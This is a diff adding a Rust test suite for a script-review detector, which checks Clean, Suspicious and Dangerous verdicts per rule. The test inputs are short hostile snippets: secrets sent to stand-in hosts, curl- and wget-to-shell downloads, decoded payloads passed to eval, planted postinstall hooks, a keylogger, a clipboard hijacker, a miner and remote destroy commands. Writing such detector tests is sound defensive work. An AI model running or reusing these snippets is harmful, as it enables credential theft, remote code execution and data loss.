@@ -1,0 +1,728 @@
+//! Capability rows and combination rules: one row per rule, with the verdict, the rule id that
+//! must decide it and a step its capability chain must show. The scripts are written for these
+//! tests (each one the smallest realistic case of its rule), and every rule has a clean twin where
+//! context gives evidence that lowers the severity.
+
+#![allow(
+    clippy::unwrap_used,
+    clippy::expect_used,
+    reason = "test code: a failed unwrap is a failed test"
+)]
+
+use terraphim_script_review::{Config, Context, Language, Report, Verdict, review_source};
+
+use Language::{JavaScript as Js, Python as Py, Shell as Sh, TypeScript as Ts};
+use Verdict::{Clean, Dangerous, Suspicious};
+
+fn review(lang: Language, code: &str) -> Report {
+    let ctx = Context {
+        cwd: "/home/dev/project".into(),
+        home: "/home/dev".into(),
+        tmp_dirs: vec!["/tmp".into()],
+    };
+    review_source(code, lang, &ctx, &Config::default())
+}
+
+/// `rule` must be the rule of a finding of the verdict's severity, and `step` a part of one of
+/// that finding's chain steps.
+#[track_caller]
+fn check(lang: Language, code: &str, verdict: Verdict, rule: &str, step: &str) {
+    let report = review(lang, code);
+    assert_eq!(report.verdict, verdict, "{lang} `{code}`\n{report:#?}");
+    if verdict == Clean {
+        return;
+    }
+    let hit = report
+        .findings
+        .iter()
+        .filter(|f| f.severity == verdict)
+        .find(|f| f.rule == rule);
+    let Some(f) = hit else {
+        panic!("{lang} `{code}`: no {verdict} finding of rule {rule}\n{report:#?}");
+    };
+    assert!(
+        f.chain.iter().any(|c| c.contains(step)),
+        "{lang} `{code}`: chain {:?} has no step with {step:?}",
+        f.chain
+    );
+    assert!(f.line >= 1, "{f:?}");
+}
+
+#[test]
+fn every_finding_has_a_rule_and_a_chain_in_json() {
+    let report = review(
+        Py,
+        "import requests\nk = open('/home/dev/.ssh/id_ed25519').read()\nrequests.post('https://collect.example.net/k', data=k)\n",
+    );
+    assert_eq!(report.verdict, Dangerous);
+    let json = serde_json::to_value(&report).unwrap();
+    for f in json["findings"].as_array().unwrap() {
+        assert!(f["rule"].as_str().is_some_and(|r| !r.is_empty()), "{f}");
+        assert!(f["line"].as_u64().is_some_and(|l| l >= 1), "{f}");
+        assert!(!f["chain"].as_array().unwrap().is_empty(), "{f}");
+    }
+    let top = &report.findings[0];
+    assert_eq!(top.rule, "secret-to-network");
+    assert_eq!(
+        top.chain_text(),
+        "secret read: an SSH private key -> network send: collect.example.net"
+    );
+}
+
+#[test]
+fn sources_reaching_sinks() {
+    // secret source -> network sink, through a loop over a literal list of names.
+    check(
+        Py,
+        "import os, urllib.request, urllib.parse\nvals = {n: os.environ.get(n, '') for n in ('DEPLOY_TOKEN', 'DB_PASSWORD')}\nurllib.request.urlopen('http://198.51.100.7/c?' + urllib.parse.urlencode(vals))\n",
+        Dangerous,
+        "secret-to-network",
+        "environment variable",
+    );
+    // Shell history holds typed tokens.
+    check(
+        Py,
+        "from pathlib import Path\nfor l in (Path.home() / '.zsh_history').read_text().splitlines():\n    print(l)\n",
+        Dangerous,
+        "secret-to-output",
+        "shell history",
+    );
+    // Each element of a literal tuple is followed through `Path.home() / name`.
+    check(
+        Py,
+        "from pathlib import Path\nfor name in ('notes.txt', '.pypirc'):\n    print((Path.home() / name).read_text())\n",
+        Dangerous,
+        "secret-to-output",
+        "PyPI token",
+    );
+    check(
+        Py,
+        "import shutil, os\nshutil.copy(os.path.expanduser('~/.docker/config.json'), 'ctx/auth.json')\n",
+        Dangerous,
+        "secret-copy",
+        "Docker registry credentials",
+    );
+    check(
+        Sh,
+        "mkdir -p bundle\ncp ~/.kube/config bundle/kubeconfig\n",
+        Dangerous,
+        "secret-copy",
+        "Kubernetes",
+    );
+    check(
+        Sh,
+        "env | sort\n",
+        Suspicious,
+        "env-to-output",
+        "whole environment",
+    );
+    // A name looked up in DNS leaves the machine; so does data in a command run from a string.
+    check(
+        Sh,
+        "dig +short \"$(whoami).$(hostname).n.example.net\"\n",
+        Dangerous,
+        "secret-to-network",
+        "DNS lookup",
+    );
+    check(
+        Ts,
+        "import { execSync } from 'node:child_process';\nimport { hostname } from 'node:os';\nexecSync(`nslookup ${hostname()}.n.example.net`);\n",
+        Dangerous,
+        "secret-to-network",
+        "host info",
+    );
+}
+
+#[test]
+fn tokens_used_for_their_own_api_are_clean() {
+    check(
+        Py,
+        "import os, requests\nkey = os.environ['OPENAI_API_KEY']\nr = requests.post('https://api.openai.com/v1/embeddings', headers={'Authorization': f'Bearer {key}'}, json={'input': 'x'})\nprint(r.json()['data'][0]['embedding'][:3])\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import os\nfrom anthropic import Anthropic\nclient = Anthropic(api_key=os.environ['ANTHROPIC_API_KEY'])\nmsg = client.messages.create(model='m', max_tokens=10, messages=[])\nprint(msg.content)\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Js,
+        "const t = process.env.GITLAB_TOKEN;\nconst r = await fetch('https://gitlab.com/api/v4/projects', { headers: { 'PRIVATE-TOKEN': t } });\nconsole.log((await r.json()).length);\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Sh,
+        "curl -fsS -H \"Authorization: Bearer $OPENAI_API_KEY\" https://api.openai.com/v1/models | jq '.data | length'\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Js,
+        "const https = require('https');\nconst t = process.env.NPM_TOKEN;\nhttps.get({ host: 'registry.npmjs.org', path: '/-/whoami', headers: { authorization: `Bearer ${t}` } }, (r) => r.pipe(process.stdout));\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Js,
+        "const axios = require('axios');\nconst r = await axios.get('https://api.github.com/user/repos', { headers: { Authorization: `token ${process.env.GITHUB_TOKEN}` } });\nconsole.log(r.data.length);\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import json, os, urllib.request\nreq = urllib.request.Request('https://slack.com/api/chat.postMessage', data=json.dumps({'text': 'done'}).encode(), headers={'Authorization': 'Bearer ' + os.environ['SLACK_BOT_TOKEN']})\nurllib.request.urlopen(req)\n",
+        Clean,
+        "",
+        "",
+    );
+    // The same token to an allowed host that is not its service: credential use to review.
+    check(
+        Py,
+        "import os, requests\nt = os.environ['OPENAI_API_KEY']\nrequests.get('https://pypi.org/simple/', headers={'Authorization': t})\n",
+        Suspicious,
+        "token-to-listed-host",
+        "pypi.org",
+    );
+    // ... to any other host: exfiltration.
+    check(
+        Py,
+        "import os, requests\nt = os.environ['OPENAI_API_KEY']\nrequests.get('https://relay.example.net/x', headers={'Authorization': t})\n",
+        Dangerous,
+        "secret-to-network",
+        "relay.example.net",
+    );
+    // A token read and never used for its API stays a suspicious read.
+    check(
+        Py,
+        "import os\nt = os.environ['STRIPE_SECRET_KEY']\nn = len(t)\n",
+        Suspicious,
+        "secret-read",
+        "STRIPE_SECRET_KEY",
+    );
+}
+
+#[test]
+fn decode_and_download_reaching_exec() {
+    check(
+        Js,
+        "const c = 'Y29uc29sZS5sb2coMSk=';\nglobalThis.eval(Buffer.from(c, 'base64').toString('latin1'));\n",
+        Dangerous,
+        "decode-to-exec",
+        "decode",
+    );
+    check(
+        Js,
+        "const s = Buffer.from('Y29uc29sZS5sb2coMik=', 'base64').toString();\n(0, eval)(s);\n",
+        Dangerous,
+        "decode-to-exec",
+        "exec",
+    );
+    check(
+        Js,
+        "const hex = '636f6e736f6c652e6c6f67283329';\nconst src = hex.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('');\nnew Function(src)();\n",
+        Dangerous,
+        "decode-to-exec",
+        "decode",
+    );
+    check(
+        Py,
+        "import builtins\nf = b'\\x85\\xa5\\x81\\x93'.decode('cp500')\nvars(builtins)[f]('1+1')\n",
+        Dangerous,
+        "decode-to-exec",
+        "dynamic code",
+    );
+    check(
+        Py,
+        "from PIL import Image\npx = list(Image.open('logo.png').getdata())\ncode = bytes(p[0] & 1 for p in px).decode()\nexec(code)\n",
+        Dangerous,
+        "decode-to-exec",
+        "decode",
+    );
+    check(
+        Py,
+        "import subprocess, sys\ns = bytes.fromhex('7072696e742831290a').decode()\nsubprocess.run([sys.executable, '-c', s])\n",
+        Dangerous,
+        "decode-to-exec",
+        "python3 -c",
+    );
+    // A downloaded file made executable, or started, is download -> exec.
+    check(
+        Py,
+        "import requests, pathlib\nblob = requests.get('https://dl.example.net/tool.bin').content\nout = pathlib.Path.home() / 'tools' / 'tool'\nout.write_bytes(blob)\nout.chmod(0o755)\n",
+        Dangerous,
+        "download-to-exec",
+        "make executable",
+    );
+    check(
+        Py,
+        "import os, requests\nopen('setup.tmp', 'wb').write(requests.get('https://dl.example.net/s').content)\nos.rename('setup.tmp', 'setup.exe')\nos.startfile('setup.exe')\n",
+        Dangerous,
+        "download-to-exec",
+        "run file",
+    );
+    check(
+        Sh,
+        "cd /tmp\ncurl -sL https://dl.example.net/agent.tgz | tar xz\n./agent --daemon\n",
+        Dangerous,
+        "download-to-exec",
+        "run local program",
+    );
+    check(
+        Sh,
+        "pwsh -NoProfile -Command \"iwr https://dl.example.net/a.ps1 | iex\"\n",
+        Dangerous,
+        "download-to-exec",
+        "exec",
+    );
+    check(
+        Py,
+        "import subprocess\nsubprocess.run(['powershell', '-enc', 'ZQBjAGgAbwAgADEA'])\n",
+        Dangerous,
+        "decode-to-exec",
+        "base64",
+    );
+    // A downloaded data file and an unrelated script made executable are not download -> exec.
+    check(
+        Py,
+        "import os, requests\nopen('data.json', 'wb').write(requests.get('https://api.github.com/repos/a/b').content)\nopen('run.sh', 'w').write('#!/bin/sh\\nmake test\\n')\nos.chmod('run.sh', 0o755)\n",
+        Clean,
+        "",
+        "",
+    );
+    // Downloading without running it is only network use.
+    check(
+        Sh,
+        "curl -fsSL https://dl.example.net/install.sh -o /tmp/install.sh\nwc -l /tmp/install.sh\n",
+        Suspicious,
+        "network-unlisted-host",
+        "dl.example.net",
+    );
+}
+
+#[test]
+fn unknown_values_at_sinks_are_suspicious() {
+    check(
+        Py,
+        "import subprocess, sys\nglob = sys.argv[1] if len(sys.argv) > 1 else '*.log'\nsubprocess.run('ls -l ' + glob, shell=True)\n",
+        Suspicious,
+        "unknown-exec",
+        "exec",
+    );
+    check(
+        Py,
+        "import subprocess, sys\nwho = ' '.join(sys.argv[1:]) or 'all'\nsubprocess.call(f'echo {who}', shell=True)\n",
+        Suspicious,
+        "unknown-exec",
+        "exec",
+    );
+    check(
+        Sh,
+        "grep -rl old_name src/ | xargs sed -i 's/old_name/new_name/g'\n",
+        Suspicious,
+        "source-rewrite",
+        "sed -i",
+    );
+    // Fixed argv lists are evidence: clean.
+    check(
+        Py,
+        "import subprocess\nfor cmd in (['ruff', 'format', '.'], ['mypy', 'src']):\n    subprocess.run(cmd, check=True)\n",
+        Clean,
+        "",
+        "",
+    );
+}
+
+#[test]
+fn deletes_outside_and_inside_the_project() {
+    check(
+        Sh,
+        "echo /home/dev/other | xargs rm -rf\n",
+        Dangerous,
+        "delete-outside",
+        "delete tree",
+    );
+    check(
+        Sh,
+        "find /srv/app/cache -name '*.tmp' -print0 2>/dev/null | xargs -0 rm -f\n",
+        Dangerous,
+        "delete-outside",
+        "/srv/app/cache",
+    );
+    // The same inside the project or a temp dir is clean.
+    check(Sh, "echo build dist | xargs rm -rf\n", Clean, "", "");
+    check(
+        Sh,
+        "set -e\nrm -rf ./dist\nwork=$(mktemp -d)\ntrap 'rm -rf \"$work\"' EXIT\ncleanup() { rm -rf \"$work\"; }\ntar czf \"$work/out.tgz\" src\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import shutil, tempfile\nd = tempfile.mkdtemp()\ntry:\n    open(d + '/x.txt', 'w').write('1')\nfinally:\n    shutil.rmtree(d)\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Ts,
+        "import { mkdtempSync, rmSync } from 'node:fs';\nimport { tmpdir } from 'node:os';\nimport { join } from 'node:path';\nconst d = mkdtempSync(join(tmpdir(), 'x-'));\nrmSync(d, { recursive: true, force: true });\nrmSync('dist', { recursive: true, force: true });\n",
+        Clean,
+        "",
+        "",
+    );
+    // An unknown handler stays suspicious.
+    check(
+        Sh,
+        "trap \"$ON_EXIT\" EXIT\n",
+        Suspicious,
+        "unknown-exec",
+        "trap handler",
+    );
+}
+
+#[test]
+fn writes_to_trust_anchors() {
+    check(
+        Py,
+        "from pathlib import Path\nfor rc in ('.bashrc', '.zprofile'):\n    with (Path.home() / rc).open('a') as f:\n        f.write('export EDITOR=vim\\n')\n",
+        Dangerous,
+        "trust-anchor-write",
+        ".bashrc",
+    );
+    // Code written into project files is reviewed as code.
+    check(
+        Py,
+        "from pathlib import Path\nEXTRA = \"\\nimport os\\nos.system('curl -s https://dl.example.net/x | sh')\\n\"\nfor p in Path('src').rglob('*.py'):\n    p.write_text(p.read_text() + EXTRA)\n",
+        Dangerous,
+        "planted-code",
+        "planted",
+    );
+    check(
+        Ts,
+        "import { appendFileSync, readdirSync } from 'node:fs';\nfor (const f of readdirSync('lib')) {\n  appendFileSync(`lib/${f}`, `\\nfetch('https://t.example.net/p', { method: 'POST', body: JSON.stringify(process.env) });\\n`);\n}\n",
+        Dangerous,
+        "planted-code",
+        "whole environment",
+    );
+    check(
+        Py,
+        "import os, tempfile\nfd, path = tempfile.mkstemp(suffix='.py')\nos.write(fd, b\"import urllib.request as r\\nexec(r.urlopen('https://dl.example.net/s').read())\\n\")\n",
+        Dangerous,
+        "planted-code",
+        "exec",
+    );
+    // A manifest given install scripts through an object literal.
+    check(
+        Js,
+        "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.scripts = Object.assign({}, pkg.scripts, { postinstall: 'node setup.js && curl -s https://dl.example.net/p | sh' });\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n",
+        Dangerous,
+        "trust-anchor-write",
+        "package.json",
+    );
+    check(
+        Py,
+        "import re\nfrom pathlib import Path\np = Path('pyproject.toml')\nt = re.sub(r'dependencies = \\[', 'dependencies = [\"helper @ https://dl.example.net/helper-1.0.tar.gz\", ', p.read_text())\np.write_text(t)\n",
+        Dangerous,
+        "trust-anchor-write",
+        "pyproject.toml",
+    );
+    // Plain data written into a manifest stays clean.
+    check(
+        Js,
+        "const fs = require('fs');\nconst pkg = JSON.parse(fs.readFileSync('package.json', 'utf8'));\npkg.version = '1.2.3';\nfs.writeFileSync('package.json', JSON.stringify(pkg, null, 2));\n",
+        Clean,
+        "",
+        "",
+    );
+}
+
+#[test]
+fn capability_rows() {
+    check(
+        Py,
+        "import ctypes\nk = ctypes.windll.kernel32\nh = k.OpenProcess(0x1F0FFF, False, 4242)\nk.WriteProcessMemory(h, 0, b'x', 1, None)\n",
+        Dangerous,
+        "process-injection",
+        "WriteProcessMemory",
+    );
+    check(
+        Py,
+        "from pynput import keyboard\ndef on_press(k):\n    print(k)\nwith keyboard.Listener(on_press=on_press) as l:\n    l.join()\n",
+        Dangerous,
+        "keylogging",
+        "keystroke",
+    );
+    check(
+        Py,
+        "import pyautogui\npyautogui.screenshot('screen.png')\n",
+        Suspicious,
+        "screen-capture",
+        "screen",
+    );
+    check(
+        Py,
+        "import pickle, sys\nwith open(sys.argv[1], 'rb') as f:\n    state = pickle.load(f)\n",
+        Suspicious,
+        "unsafe-deserialize",
+        "pickle.load",
+    );
+    // Data the script keeps in its own known file is evidence enough.
+    check(
+        Py,
+        "import pickle\nwith open('.cache/state.pkl', 'rb') as f:\n    state = pickle.load(f)\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import yaml\ncfg = yaml.load(open('conf.yml').read(), Loader=yaml.UnsafeLoader)\n",
+        Suspicious,
+        "unsafe-deserialize",
+        "yaml.load",
+    );
+    check(
+        Py,
+        "import yaml\ncfg = yaml.load(open('conf.yml'), Loader=yaml.SafeLoader)\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import tarfile\nwith tarfile.open('vendor.tgz') as t:\n    t.extractall('vendor')\n",
+        Suspicious,
+        "unsafe-extract",
+        "extract",
+    );
+    check(
+        Py,
+        "import tarfile\nwith tarfile.open('vendor.tgz') as t:\n    t.extractall('vendor', filter='data')\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Py,
+        "import http.server, socketserver\nsocketserver.TCPServer(('0.0.0.0', 9000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
+        Suspicious,
+        "listen-all-interfaces",
+        "all interfaces",
+    );
+    check(
+        Py,
+        "import http.server, socketserver\nsocketserver.TCPServer(('127.0.0.1', 9000), http.server.SimpleHTTPRequestHandler).serve_forever()\n",
+        Clean,
+        "",
+        "",
+    );
+    check(
+        Sh,
+        "nohup ./xmrig -o stratum+tcp://pool.example.net:4444 >/dev/null 2>&1 &\n",
+        Dangerous,
+        "cryptominer",
+        "pool",
+    );
+    check(
+        Sh,
+        "docker run --rm -v /:/mnt alpine ls /mnt\n",
+        Dangerous,
+        "container-escape",
+        "container",
+    );
+    check(
+        Sh,
+        "docker run --rm -v \"$PWD\":/src -w /src node:20 npm test\n",
+        Clean,
+        "",
+        "",
+    );
+}
+
+#[test]
+fn combinations() {
+    check(
+        Py,
+        "import pyperclip, time\nwhile True:\n    v = pyperclip.paste()\n    if v.startswith('bc1'):\n        pyperclip.copy('bc1qexampleexampleexample')\n    time.sleep(1)\n",
+        Dangerous,
+        "clipboard-hijack",
+        "clipboard write",
+    );
+    check(
+        Sh,
+        "cur=$(xclip -o -selection clipboard)\necho \"$cur\" | tr a-z A-Z | xclip -selection clipboard\n",
+        Dangerous,
+        "clipboard-hijack",
+        "clipboard read",
+    );
+    check(
+        Js,
+        "const fs = require('fs');\nconst { execSync } = require('child_process');\nconst m = JSON.parse(fs.readFileSync('package.json', 'utf8'));\nm.name = `pkg-${Date.now()}`;\nfs.writeFileSync('package.json', JSON.stringify(m));\nexecSync('npm publish');\n",
+        Dangerous,
+        "rewrite-and-publish",
+        "package publish",
+    );
+    check(
+        Py,
+        "import subprocess, sys\nsubprocess.run([sys.executable, '-m', 'twine', 'upload', 'dist/pkg-1.0.tar.gz'])\n",
+        Suspicious,
+        "package-publish",
+        "twine",
+    );
+}
+
+#[test]
+fn identity_collection() {
+    check(
+        Py,
+        "import getpass, socket\nprint(getpass.getuser(), socket.gethostname())\n",
+        Suspicious,
+        "sysinfo-collection",
+        "host identity read",
+    );
+    check(
+        Sh,
+        "echo \"$(whoami)@$(hostname)\"\n",
+        Suspicious,
+        "sysinfo-collection",
+        "user identity read",
+    );
+    // One of them alone is ordinary (a build stamp, a log line).
+    check(
+        Py,
+        "import socket\nprint('built on', socket.gethostname())\n",
+        Clean,
+        "",
+        "",
+    );
+    check(Sh, "uname -s\nwhoami\n", Clean, "", "");
+}
+
+#[test]
+fn shell_values_through_commands() {
+    // `wget -qO-` prints the download: piped into a shell it is download -> exec.
+    check(
+        Sh,
+        "wget -qO- https://dl.example.net/s.sh | sh\n",
+        Dangerous,
+        "download-to-exec",
+        "network receive",
+    );
+    check(
+        Sh,
+        "source <(wget -qO- https://dl.example.net/env.sh)\n",
+        Dangerous,
+        "download-to-exec",
+        "exec",
+    );
+    // Files listed by git or find keep the shape of their pattern.
+    check(
+        Sh,
+        "for f in $(git ls-files '*.py'); do\n  echo 'import os; os.system(\"id\")' >> \"$f\"\ndone\n",
+        Dangerous,
+        "trust-anchor-write",
+        ".py",
+    );
+    check(
+        Sh,
+        "find src -name '*.js' | xargs sed -i 's/var /let /g'\n",
+        Suspicious,
+        "source-rewrite",
+        "src/",
+    );
+    // A trap handler is code the script runs: reviewed as such.
+    check(
+        Sh,
+        "trap 'curl -s https://dl.example.net/p | sh' EXIT\nmake test\n",
+        Dangerous,
+        "download-to-exec",
+        "exec",
+    );
+}
+
+#[test]
+fn remote_destruction() {
+    check(
+        Sh,
+        "cd infra\nterraform destroy -auto-approve\n",
+        Dangerous,
+        "destroy-remote",
+        "Terraform",
+    );
+    check(
+        Py,
+        "import subprocess\nsubprocess.run(['aws', 's3', 'rm', 's3://team-data', '--recursive'], check=True)\n",
+        Dangerous,
+        "destroy-remote",
+        "S3",
+    );
+    check(
+        Sh,
+        "terraform plan -out plan.bin\nkubectl get pods -n dev\n",
+        Clean,
+        "",
+        "",
+    );
+}
+
+#[test]
+fn permissions() {
+    check(
+        Py,
+        "import os, stat\nMODE = stat.S_IRWXU | stat.S_IRWXG | stat.S_IRWXO\nfor p in ('/etc/passwd', '/etc/group'):\n    os.chmod(p, MODE)\n",
+        Dangerous,
+        "weaken-permissions",
+        "/etc/",
+    );
+    check(
+        Sh,
+        "chmod 666 /etc/hosts\n",
+        Dangerous,
+        "weaken-permissions",
+        "/etc/hosts",
+    );
+    check(
+        Sh,
+        "chmod -R 777 ./out\n",
+        Suspicious,
+        "weaken-permissions",
+        "out",
+    );
+    check(
+        Sh,
+        "chmod 755 scripts/run.sh\nchmod +x bin/tool\n",
+        Clean,
+        "",
+        "",
+    );
+}
+
+#[test]
+fn text_signals() {
+    check(
+        Py,
+        "HOOK = 'https://webhook.site/0000-1111'\nprint(HOOK)\n",
+        Suspicious,
+        "shady-url",
+        "request bin",
+    );
+    check(
+        Py,
+        "# see https://bit.ly/example for the design notes\nprint('ok')\n",
+        Clean,
+        "",
+        "",
+    );
+    let padded = format!("x = 1{}; print('more')\n", " ".repeat(90));
+    check(Py, &padded, Suspicious, "hidden-code", "blanks");
+}
